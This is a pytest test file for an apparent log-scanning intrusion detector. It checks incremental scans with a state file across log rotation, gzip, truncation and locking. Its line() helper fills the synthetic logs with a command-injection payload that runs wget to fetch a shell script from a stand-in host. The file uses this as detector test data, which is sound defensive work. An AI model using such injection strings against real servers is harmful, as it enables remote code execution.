"""Incremental runs with --state across real log rotation: the union of the runs' findings is
exactly the findings of one full scan of everything written, none twice, each pointing at its
line. Real files, real renames, real gzip, real truncation; the CLI as cron runs it."""

from __future__ import annotations

import dataclasses
import gzip
import json
import os
import shutil
import subprocess
import sys
import zlib
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from conftest import SAMPLE_LOGS, combined_line, dropscan_main
from dropscan.cli import app
from dropscan.errors import OutputError, UsageError
from dropscan.sources.files import Source, open_blocks
from dropscan.state.incremental import Entry, Incremental, load


def line(i: int) -> bytes:
    """Line i of the log: every third one an attack; each one unique, all of one length per kind."""
    if i % 3 == 0:
        return combined_line(f"/x?id={i:05d}&c=;wget http://198.51.100.9/{i:05d}.sh", client="203.0.113.7")
    return combined_line(f"/page/{i:05d}.html", client="192.0.2.8")


class Logs:
    """A log directory a test writes to and rotates like logrotate would."""

    def __init__(self, root: Path, runner, named: str):
        self.d = root / "logs"
        self.d.mkdir()
        self.state = root / "state.json"
        self.runner = runner
        self.named = named  # "file": cron names access.log; "dir": cron names the directory
        self.written: list[bytes] = []
        self.count = 0  # lines made by line()
        self.attacks = 0
        self.reported: list[tuple[bytes, tuple[str, ...]]] = []

    def p(self, name: str) -> Path:
        return self.d / name

    def append(self, n: int, name: str = "access.log") -> None:
        lines = [line(self.count + k) for k in range(n)]
        self.attacks += sum(1 for k in range(n) if (self.count + k) % 3 == 0)
        self.count += n
        self.write(b"".join(lines), name)

    def write(self, data: bytes, name: str = "access.log") -> None:
        with open(self.p(name), "ab") as fh:
            fh.write(data)
        self.written.append(data)

    def rename(self, a: str, b: str) -> None:
        os.rename(self.p(a), self.p(b))

    def compress(self, a: str, b: str) -> None:
        self.p(b).write_bytes(gzip.compress(self.p(a).read_bytes()))
        os.unlink(self.p(a))

    def copytruncate(self, name: str, to: str) -> None:
        shutil.copyfile(self.p(name), self.p(to))
        os.truncate(self.p(name), 0)

    def run(self, *extra: str) -> list[dict]:
        target = str(self.p("access.log")) if self.named == "file" else str(self.d)
        r = self.runner.invoke(app, ["scan", target, "-f", "jsonl", "--state", str(self.state), *extra])
        assert r.exit_code in (0, 1), r.output
        recs = [json.loads(x) for x in r.stdout.splitlines()]
        assert r.exit_code == (1 if recs else 0)
        for rec in recs:  # the finding names its line: by number and by offset, in the file as it is now
            data = b"".join(open_blocks(Source(rec["log_file"])))
            lines = data.splitlines(keepends=True)
            raw = lines[rec["line_no"] - 1]
            assert data[rec["offset"] :].startswith(raw)
            self.reported.append((raw, tuple(rec["rule_ids"])))
        return recs

    def check_union(self) -> None:
        """Every finding of one full scan of all lines ever written, reported exactly once."""
        full = self.d.parent / "everything.log"
        full.write_bytes(b"".join(self.written))
        r = self.runner.invoke(app, ["scan", str(full), "-f", "jsonl"])
        data = full.read_bytes()
        expected = sorted(
            (data[x["offset"] :].split(b"\n", 1)[0] + b"\n", tuple(x["rule_ids"]))
            for x in map(json.loads, r.stdout.splitlines())
        )
        assert len(expected) == self.attacks
        assert sorted(self.reported) == expected


@pytest.fixture(params=["file", "dir"])
def logs(request, tmp_path, runner):
    return Logs(tmp_path, runner, request.param)


def test_append_and_nothing_new(logs):
    logs.append(10)
    assert len(logs.run()) == 4
    logs.append(8)
    recs = logs.run()
    assert [r["line_no"] for r in recs] == [13, 16]  # numbered as in the whole file
    assert logs.run() == []  # nothing new: exit 0, no output
    logs.check_union()


def test_a_line_being_written_waits_for_its_newline(logs):
    logs.append(3)
    logs.run()
    whole = line(3)  # an attack
    with open(logs.p("access.log"), "ab") as fh:
        fh.write(whole[:40])  # Apache is mid-write
    assert logs.run() == []
    with open(logs.p("access.log"), "ab") as fh:
        fh.write(whole[40:])
    logs.written.append(whole)
    logs.count, logs.attacks = 4, 2
    assert [r["line_no"] for r in logs.run()] == [4]
    logs.check_union()


def test_rename_rotation_reads_the_unread_tail_first(logs):
    logs.append(10)
    logs.run()
    logs.append(4)  # written after the run, before the rotation
    logs.rename("access.log", "access.log.1")
    logs.append(5)
    recs = logs.run()
    assert [(Path(r["log_file"]).name, r["line_no"]) for r in recs] == [
        ("access.log.1", 13),
        ("access.log", 2),
        ("access.log", 5),
    ]
    assert logs.run() == []
    logs.check_union()


@pytest.mark.parametrize("rotated", ["access.log.0", "access.log-20261127", "access.log-2026112706.gz"])
def test_savelog_and_dateext_names(logs, rotated):
    logs.append(10)
    logs.run()
    logs.append(4)
    if rotated.endswith(".gz"):
        logs.compress("access.log", rotated)
    else:
        logs.rename("access.log", rotated)
    logs.append(3)
    assert [Path(r["log_file"]).name for r in logs.run()] == [rotated, "access.log"]
    logs.check_union()


def test_rotation_to_gz_with_delaycompress(logs):
    logs.append(10)
    logs.run()
    logs.append(3)
    logs.rename("access.log", "access.log.1")
    logs.append(6)
    logs.run()
    logs.append(3)  # the unread tail; then the next rotation compresses .1 and renames the live file
    logs.compress("access.log.1", "access.log.2.gz")
    logs.rename("access.log", "access.log.1")
    logs.append(4)
    recs = logs.run()
    assert [(Path(r["log_file"]).name, r["line_no"]) for r in recs] == [("access.log.1", 9), ("access.log", 3)]
    assert logs.run() == []
    # two rotations between runs: the tail is in .2.gz now, .1 was never seen
    logs.append(3)
    logs.compress("access.log.1", "access.log.2.gz")
    logs.rename("access.log", "access.log.1")
    logs.append(7)
    logs.compress("access.log.1", "access.log.2.gz")  # logrotate drops the oldest
    logs.rename("access.log", "access.log.1")
    logs.append(2)
    names = [Path(r["log_file"]).name for r in logs.run()]
    assert names == sorted(names, key=["access.log.2.gz", "access.log.1", "access.log"].index)
    assert {"access.log.2.gz", "access.log.1"} <= set(names)
    logs.check_union()


def test_copytruncate(logs):
    logs.append(10)
    logs.run()
    logs.append(4)
    logs.copytruncate("access.log", "access.log.1")
    logs.append(2)  # shorter than the old offset: size < offset
    logs.run()
    logs.append(3)
    logs.copytruncate("access.log", "access.log.1")
    logs.append(60)  # longer than the old offset: only the first bytes tell
    logs.run()
    assert logs.run() == []
    logs.check_union()


def test_copytruncate_refilled_with_the_same_first_bytes(logs):
    """A health check logs identical lines; after copytruncate the file starts with the same
    1024 bytes as before. Only its size (below the old offset) shows it was truncated."""
    health = combined_line("/server-status?auto", client="127.0.0.1") * 12
    assert len(health) > 1024
    logs.write(health)
    logs.append(4)
    logs.run()
    logs.append(3)  # the unread tail
    logs.copytruncate("access.log", "access.log.1")
    logs.write(health)
    assert [Path(r["log_file"]).name for r in logs.run()] == ["access.log.1"]
    logs.append(3)
    assert [Path(r["log_file"]).name for r in logs.run()] == ["access.log"]
    logs.check_union()


@pytest.mark.parametrize("written", [500, 3000])  # decompressed bytes gzip has written so far
def test_a_copy_being_compressed_is_not_read_twice(tmp_path, runner, written):
    logs = Logs(tmp_path, runner, "dir")
    logs.append(30)
    logs.run()
    logs.append(6)
    logs.copytruncate("access.log", "access.log.1")  # a copy: neither file has the old inode
    logs.append(3)
    data = logs.p("access.log.1").read_bytes()
    z = zlib.compressobj(wbits=31)
    logs.p("access.log.1.gz").write_bytes(z.compress(data[:written]) + z.flush(zlib.Z_SYNC_FLUSH))
    recs = logs.run()
    assert [(Path(r["log_file"]).name, r["line_no"]) for r in recs] == [
        ("access.log.1", 31),
        ("access.log.1", 34),
        ("access.log", 1),
    ]
    logs.p("access.log.1.gz").write_bytes(gzip.compress(data))  # gzip finished and removed the original
    logs.p("access.log.1").unlink()
    assert logs.run() == []
    logs.check_union()


def test_inode_reuse_with_the_same_size(logs):
    logs.append(9)
    logs.run()
    logs.rename("access.log", "access.log.1")
    logs.compress("access.log.1", "access.log.1.gz")  # frees the old inode
    old = json.loads(logs.state.read_text())["files"][0]
    logs.append(9)  # a new access.log, same size as the old offset (pygtail and logtail lose it)
    st = os.stat(logs.p("access.log"))
    assert st.st_size == old["offset"]
    if st.st_ino != old["ino"]:  # the filesystem chose another inode: make the state claim it
        doc = json.loads(logs.state.read_text())
        doc["files"][0].update(dev=st.st_dev, ino=st.st_ino)
        logs.state.write_text(json.dumps(doc))
    assert len(logs.run()) == 3
    logs.check_union()


def test_a_run_with_nothing_to_read_leaves_no_trace(tmp_path, runner):
    p = tmp_path / "access.log"
    p.write_bytes(line(1) + line(3))
    state = tmp_path / "state.json"
    out = tmp_path / "out.csv"
    args = ["scan", str(p), "--state", str(state), "--quiet", "-o", str(out)]
    assert runner.invoke(app, args).exit_code == 1 and out.exists()
    out.unlink()
    r = runner.invoke(app, args)
    assert (r.exit_code, r.stdout, r.stderr, out.exists()) == (0, "", "", False)


def main_run(args: list[str], **kw) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-c", "from dropscan.cli import main; main()", *args], capture_output=True, text=True, **kw
    )


def test_corrupt_or_foreign_state_is_one_line_and_reset_recovers(tmp_path, runner):
    p = tmp_path / "access.log"
    p.write_bytes(line(3))
    state = tmp_path / "state.json"
    args = ["scan", str(p), "--state", str(state), "-f", "jsonl"]
    for content, why in (
        ('{"format": "dropscan-state", "version": 1, "files": [{"path": 1}]}', "damaged state file (file entry 1"),
        ('{"offsets": {"access.log": 12}}', "not a dropscan state file"),
        ('{"format": "dropscan-state", "version": 7, "files": []}', "state file version 7"),
        ("", "damaged state file (Expecting value"),
    ):
        state.write_text(content)
        r = runner.invoke(app, args)
        assert isinstance(r.exception, UsageError) and r.stdout == ""
        msg = str(r.exception)
        assert msg.startswith(f"{state}: {why}") and "--reset-state" in msg and "\n" not in msg
        assert state.read_text() == content  # left alone for the user to look at
    state.write_text('{"format": "dropscan-state", "version": 1, "files": [')
    r = main_run(args)  # the console entry: one line, exit 2
    assert (r.returncode, r.stdout) == (2, "")
    assert r.stderr == (
        f"dropscan: error: {state}: damaged state file (Expecting value at line 1); run once with --reset-state "
        "to start over (that run reads every log from the start)\n"
    )
    r = runner.invoke(app, [*args, "--reset-state"])
    assert r.exit_code == 1 and len(r.stdout.splitlines()) == 1
    assert json.loads(state.read_text())["format"] == "dropscan-state"
    assert runner.invoke(app, args).exit_code == 0


def test_state_is_written_only_after_the_output(tmp_path, runner):
    p = tmp_path / "access.log"
    p.write_bytes(line(3))
    state = tmp_path / "state.json"
    r = runner.invoke(app, ["scan", str(p), "--state", str(state), "-o", str(tmp_path / "no-such-dir" / "out.jsonl")])
    assert isinstance(r.exception, OutputError) and not state.exists()  # checked before anything is read
    r = runner.invoke(app, ["scan", str(p), "--state", str(state), "-f", "jsonl"])
    assert r.exit_code == 1 and state.exists()
    assert not [n for n in os.listdir(tmp_path) if n.startswith(".dropscan-state-")]  # no temp file left


def test_state_cannot_be_one_of_the_logs(tmp_path, runner):
    p = tmp_path / "access.log"
    p.write_bytes(line(3))
    r = runner.invoke(app, ["scan", str(tmp_path), "--state", str(p), "--reset-state"])
    assert isinstance(r.exception, UsageError) and "--state" in str(r.exception) and "is an input" in str(r.exception)
    assert p.read_bytes() == line(3)


def test_two_runs_on_one_state_file_one_exits_75(tmp_path):
    p = tmp_path / "access.log"
    p.write_bytes(b"".join(line(3 * i) for i in range(1500)))  # ~1 MB of findings: more than a pipe holds
    state = tmp_path / "state.json"
    args = [sys.executable, "-c", "from dropscan.cli import main; main()", "scan", str(p), "--state", str(state)]
    # unbuffered: readline below must not take bytes that communicate() then never sees
    first = subprocess.Popen([*args, "-f", "jsonl"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, bufsize=0)
    try:
        # its first finding says the first run holds the lock (taken before any output); it then
        # blocks writing to the pipe nobody reads yet, still holding it
        head = first.stdout.readline()
        assert f"pid {first.pid} " in Path(str(state) + ".lock").read_text()
        second = main_run([*args[3:], "-f", "jsonl"])
        out, _ = first.communicate()
        out = head + out
    finally:
        first.kill()
    assert (first.returncode, second.returncode) == (1, 75)
    assert len(out.splitlines()) == 1500 and second.stdout == ""
    assert second.stderr.count("\n") == 1
    assert second.stderr.startswith(f"dropscan: error: {state} is in use by another dropscan run (pid {first.pid} on ")
    third = CliRunner().invoke(app, [*args[3:], "-f", "jsonl"])  # the lock is free again, and nothing is new
    assert (third.exit_code, third.stdout) == (0, "")


def test_stdin_with_state_is_a_usage_error(tmp_path, runner):
    r = runner.invoke(app, ["scan", "-", "--state", str(tmp_path / "s.json")], input="")
    assert isinstance(r.exception, UsageError) and "stdin (-) cannot be read incrementally" in str(r.exception)


def test_a_corrupt_gz_next_to_the_log_is_reported_not_skipped(tmp_path, runner):
    logs = Logs(tmp_path, runner, "dir")
    logs.append(12)
    logs.p("access.log.1.gz").write_bytes(b"\x1f\x8b\x08\x00" + b"\xff" * 200)
    r = runner.invoke(app, ["scan", str(logs.d), "-f", "jsonl", "--state", str(logs.state)])
    assert r.exit_code == 2 and "access.log.1.gz: corrupt gzip data" in r.stderr
    assert len(r.stdout.splitlines()) == 4


def _lib_run(state: Path, paths: list[str], rotate_at: str | None = None, rotate=None) -> list[tuple[str, int]]:
    """One run through the library API; ``rotate`` is called at ``rotate_at``: "read" (after the
    plan, before the files are opened) or "commit" (after the read, before the state is saved)."""
    with Incremental(str(state)) as inc:
        run = inc.scan(paths)
        if rotate_at == "read":
            rotate()
        found = [(Path(f.log_file).name, f.line_no) for f in run]
        if rotate_at == "commit":
            rotate()
        inc.commit(run)
    return found


@pytest.mark.parametrize("when", ["read", "commit"])
@pytest.mark.parametrize("known", [False, True])
def test_rotation_while_a_run_is_under_way(tmp_path, when, known):
    """logrotate may rename the log at any moment of a run: between planning and reading the
    file (the file opened when planning is read, under the name it had then, to its end) or
    between reading and saving the state (the state records where the file went)."""
    log = tmp_path / "access.log"
    state = tmp_path / "state.json"
    log.write_bytes(b"".join(line(i) for i in range(0, 2)))  # attack on line 1
    if known:
        assert _lib_run(state, [str(log)]) == [("access.log", 1)]
    with open(log, "ab") as fh:
        fh.write(b"".join(line(i) for i in range(2, 5)))  # attack on line 4

    def rotate() -> None:
        with open(log, "ab") as fh:
            fh.write(b"".join(line(i) for i in range(7, 10)))  # an unread tail: attack on line 8
        os.rename(log, tmp_path / "access.log.1")
        log.write_bytes(b"".join(line(i) for i in range(5, 7)))  # attack on line 2 of the new file

    first = _lib_run(state, [str(log)], when, rotate)
    second = _lib_run(state, [str(log)])
    expected = ([] if known else [("access.log", 1)]) + [("access.log", 4)]
    if when == "read":  # the planned file is read whatever its name is by then
        assert (first, second) == ([*expected, ("access.log", 8)], [("access.log", 2)])
    else:
        assert (first, second) == (expected, [("access.log.1", 8), ("access.log", 2)])
    assert _lib_run(state, [str(log)]) == []


def test_a_finished_gz_is_not_decompressed_again(tmp_path, runner):
    """Every run of a directory sees the rotated .gz files; once read to their end they are
    known by stat alone. (Garbage of the same size and mtime would be an error if decompressed.)"""
    logs = Logs(tmp_path, runner, "dir")
    logs.append(9, "access.log.1")
    logs.compress("access.log.1", "access.log.2.gz")
    logs.append(3)
    assert len(logs.run()) == 4
    gz = logs.p("access.log.2.gz")
    st = os.stat(gz)
    with open(gz, "r+b") as fh:
        fh.seek(20)
        fh.write(b"\xff" * 40)
    os.utime(gz, ns=(st.st_atime_ns, st.st_mtime_ns))
    assert logs.run() == []
    logs.check_union()


def test_a_state_file_in_a_missing_directory_is_one_line(tmp_path, runner):
    log = tmp_path / "access.log"
    log.write_bytes(line(3))
    r = runner.invoke(app, ["scan", str(log), "--state", str(tmp_path / "nope" / "state.json")])
    assert isinstance(r.exception, UsageError)
    assert str(r.exception) == f"--state {tmp_path / 'nope' / 'state.json'}: no such directory: {tmp_path / 'nope'}"


_json = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=5),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=6), inner, max_size=4),
    max_leaves=12,
)
_entry = st.fixed_dictionaries(
    {
        k: (st.text(max_size=5) if k in ("path", "fp") else st.integers(0, 9)) | _json
        for k in dataclasses.asdict(Entry("", 0, 0, 0, 0, 0, 0.0, "", 0))
    }
)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    doc=_json
    | st.fixed_dictionaries(
        {"format": st.just("dropscan-state"), "version": st.just(1), "files": st.lists(_entry | _json, max_size=3)}
    )
)
def test_any_json_is_a_state_or_one_usage_error(tmp_path, doc):
    p = tmp_path / "state.json"
    p.write_text(json.dumps(doc))
    try:
        entries = load(str(p))
    except UsageError as e:
        assert "\n" not in str(e) and "--reset-state" in str(e)
        return
    for e in entries:
        assert isinstance(e.offset, int) and isinstance(e.done, bool) and isinstance(e.mtime, int | float)
        assert not isinstance(e.offset, bool) and isinstance(e.path, str)


@pytest.mark.parametrize("command", [["scan"], ["report"], ["iocs", "-f", "txt"]])
def test_reset_state_without_a_state_file_is_a_mistake_on_every_command(tmp_path, command):
    """`report --reset-state` alone used to be a silent no-op; every command says it in one line."""
    p = dropscan_main(*command, str(SAMPLE_LOGS), "--reset-state")
    assert p.returncode == 2
    assert p.stderr.strip().splitlines() == ["dropscan: error: --reset-state needs --state FILE"]
